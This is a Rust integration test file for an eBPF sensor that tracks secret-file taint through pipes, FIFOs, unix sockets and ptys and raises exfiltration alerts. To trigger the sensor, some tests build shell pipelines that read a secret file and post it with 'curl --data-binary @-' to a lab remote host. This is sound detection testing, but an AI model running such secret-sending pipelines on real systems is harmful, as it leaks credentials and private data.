//! Data written by a tainted process into a pipe, a FIFO or a unix socket taints the process
//! that reads it; the alert names the secret and the process that opened it.

use std::ffi::CString;
use std::io::{self, Write};
use std::net::SocketAddr;
use std::os::unix::ffi::OsStrExt;
use std::process::{Command, Stdio};
use std::time::Duration;

use anyhow::{ensure, Context, Result};
use integration_tests::bpf_objects;
use integration_tests::host_tools::{self, quoted};
use integration_tests::{actor_exe, alert, poll, Lab, Sensor, ALERT_TIMEOUT};
use serde_json::Value;

/// How long the unix-socket receiver waits before accepting: the sender, started meanwhile,
/// has connected and written by then (it only orders the two; nothing is asserted on it).
const ACCEPT_DELAY: Duration = Duration::from_millis(300);

/// The alert names the secret, `origin` as its reader and a `via` of `kind`.
fn assert_came_through(alert: &Value, lab: &Lab, origin: Option<u32>, kind: &str) {
    assert_eq!(alert::file_path(alert), lab.secret().to_str(), "{alert:#}");
    if let Some(origin) = origin {
        assert_eq!(alert::origin_pid(alert), Some(origin), "{alert:#}");
    }
    assert_eq!(alert::via_kind(alert), Some(kind), "{alert:#}");
    // A pipe is named by its inode; a socket's identity is a kernel address, never printed.
    let inode = alert.pointer("/vigie/via/inode");
    if kind == "unix-socket" {
        assert!(inode.is_none(), "no kernel address in the output: {alert:#}");
    } else {
        assert!(inode.is_some(), "the {kind}'s inode: {alert:#}");
    }
}

/// Runs `head | curl --data-binary @- DEST` in a shell and returns curl's alert.
fn piped_into_curl(sensor: &Sensor, head: &str, dest: SocketAddr) -> Result<Value> {
    let curl = format!("curl -sS -o /dev/null --max-time 10 --data-binary @- {}", host_tools::url(dest));
    host_tools::sh(&format!("{head} | {curl}"))?;
    let by_curl = |line: &Value| {
        alert::is_exfiltration_to(dest)(line)
            && host_tools::is_program(alert::process_executable(line), "curl")
    };
    sensor.expect(by_curl, ALERT_TIMEOUT)
}

#[test]
#[ignore = "needs root and BPF: run with cargo xtask test"]
fn shell_pipeline_from_cat_through_base64_to_curl_is_reported_on_curl() -> Result<()> {
    let lab = Lab::new(actor_exe!())?;
    let sensor = lab.sensor()?;
    let dest = lab.remote().tcp_v4();
    let alert = piped_into_curl(&sensor, &format!("cat {} | base64", quoted(lab.secret())), dest)?;
    assert_came_through(&alert, &lab, None, "pipe");
    assert!(host_tools::is_program(alert::origin_executable(&alert), "cat"), "cat read it: {alert:#}");
    let args = alert.pointer("/vigie/origin/args").and_then(Value::as_array);
    let secret = lab.secret().to_str();
    assert!(args.is_some_and(|a| a.iter().any(|arg| arg.as_str() == secret)), "cat's args: {alert:#}");
    Ok(())
}

#[test]
#[ignore = "needs root and BPF: run with cargo xtask test"]
fn fifo_reader_is_tainted_by_the_writer() -> Result<()> {
    let lab = Lab::new(actor_exe!())?;
    let fifo = lab.dir().join("drop-box");
    make_fifo(&fifo)?;
    let sensor = lab.sensor()?;

    // Each side's open blocks until the other's: no ordering to arrange.
    let reader = lab.actor().read(&fifo).tcp(lab.remote().tcp_v4()).spawn()?;
    let writer = lab.actor().read(lab.secret()).write_to(&fifo).run()?;
    let reader = reader.finish()?;

    let alert = sensor.expect(alert::is_exfiltration_by(reader.pid), ALERT_TIMEOUT)?;
    assert_came_through(&alert, &lab, Some(writer.pid), "pipe");
    Ok(())
}

#[test]
#[ignore = "needs root and BPF: run with cargo xtask test"]
fn unix_socket_peer_is_tainted_by_the_sender() -> Result<()> {
    let lab = Lab::new(actor_exe!())?;
    let socket = lab.dir().join("relay.sock");
    let sensor = lab.sensor()?;

    // Two unrelated processes: neither is the other's ancestor. The receiver accepts late, so
    // the secret is written while the connection is not yet accepted: the peer socket has no
    // file of its own then, and the taint must still reach whoever accepts it.
    let receiver = lab
        .actor()
        .unix_listen(&socket)
        .sleep(ACCEPT_DELAY)
        .unix_accept()
        .tcp(lab.remote().tcp_v4())
        .spawn()?;
    let sender = lab.actor().read(lab.secret()).unix_send(&socket).run()?;
    let receiver = receiver.finish()?;

    let alert = sensor.expect(alert::is_exfiltration_by(receiver.pid), ALERT_TIMEOUT)?;
    assert_came_through(&alert, &lab, Some(sender.pid), "unix-socket");
    Ok(())
}

#[test]
#[ignore = "needs root and BPF: run with cargo xtask test"]
fn secret_shown_in_a_pty_taints_the_master_side_reader() -> Result<()> {
    let lab = Lab::new(actor_exe!())?;
    let sensor = lab.sensor()?;
    let dest = lab.remote().tcp_v4();
    // `cat` writes into the pty's slave side; `script` reads the master side (as an SSH server
    // or a reverse shell would) and hands it on through a pipe to `curl`.
    let shown = format!("script -qfc 'cat {}' /dev/null < /dev/null", quoted(lab.secret()));
    let alert = piped_into_curl(&sensor, &shown, dest)?;
    assert!(host_tools::is_program(alert::origin_executable(&alert), "cat"), "cat read it: {alert:#}");
    let script_read = sensor.lines_matching(|line| {
        alert::via_kind(line) == Some("pty")
            && host_tools::is_program(alert::process_executable(line), "script")
    });
    assert!(!script_read.is_empty(), "script took it in from the pty: {:#?}", sensor.lines());
    Ok(())
}

fn make_fifo(path: &std::path::Path) -> Result<()> {
    let c_path = CString::new(path.as_os_str().as_bytes())?;
    // SAFETY: a valid NUL-terminated path.
    if unsafe { libc::mkfifo(c_path.as_ptr(), 0o600) } != 0 {
        return Err(io::Error::last_os_error()).with_context(|| format!("mkfifo {}", path.display()));
    }
    Ok(())
}

/// How many sockets the map of marks `map` names now (their `FileId`s have the device
/// `u32::MAX`; a BTF-typed key is a struct, an untyped one its bytes).
fn socket_marks(map: u32) -> Result<usize> {
    let is_socket = |key: &Value| {
        key.get("dev").and_then(Value::as_u64) == Some(u64::from(u32::MAX))
            || key
                .as_array()
                .is_some_and(|b| b.len() >= 4 && b[..4].iter().all(|b| b.as_str() == Some("0xff")))
    };
    Ok(bpf_objects::map_keys(map)?.iter().filter(|key| is_socket(key)).count())
}

/// A tainted client that sends on a loopback connection before the server accepted it marks a
/// socket that has no inode yet, so the mark cannot name it. Once the connection is closed the
/// mark is gone: the slab hands the socket's address to the next socket (a later, untainted
/// loopback client's), which must not take the old taint (seen in CI: a `psql -h 127.0.0.1`
/// carried the homeserver's secret of a process long gone).
#[test]
#[ignore = "needs root and BPF: run with cargo xtask test"]
fn a_closed_loopback_connection_leaves_no_mark_for_the_next_socket_at_its_address() -> Result<()> {
    let lab = Lab::new(actor_exe!())?;
    let sensor = lab.sensor()?;
    sensor.expect(alert::is_sensor_started, ALERT_TIMEOUT)?;
    let marks = bpf_objects::map_id(sensor.pid(), "TAINTED_FILES")?;
    ensure!(socket_marks(marks)? == 0, "no socket is marked before the client sends");
    // Each line on its standard input lets the client go on: send unaccepted, then accept and close.
    let script = format!(
        "import socket, sys\n\
         open({secret:?}).read()\n\
         sys.stdin.readline()\n\
         server = socket.create_server(('127.0.0.1', 0))\n\
         client = socket.create_connection(server.getsockname())\n\
         client.sendall(b'x' * 64)\n\
         sys.stdin.readline()\n\
         accepted, _ = server.accept()\n\
         accepted.recv(64)\n\
         client.close()\n\
         accepted.close()\n",
        secret = lab.secret().display().to_string()
    );
    let mut client = Command::new("python3")
        .args(["-c", &script])
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .context("start python3")?;
    let mut go = client.stdin.take().context("the client's stdin")?;
    sensor.expect(alert::is_secret_read_by(client.id()), ALERT_TIMEOUT)?;
    go.write_all(b"send\n")?;
    let sockets = || socket_marks(marks);
    poll::until(
        "a mark on the unaccepted socket the tainted client sent into",
        ALERT_TIMEOUT,
        sockets,
        |&n| n > 0,
    )?;
    go.write_all(b"close\n")?;
    ensure!(client.wait()?.success(), "the client failed");
    poll::until("the closed connection's marks gone", ALERT_TIMEOUT, sockets, |&n| n == 0)?;
    Ok(())
}
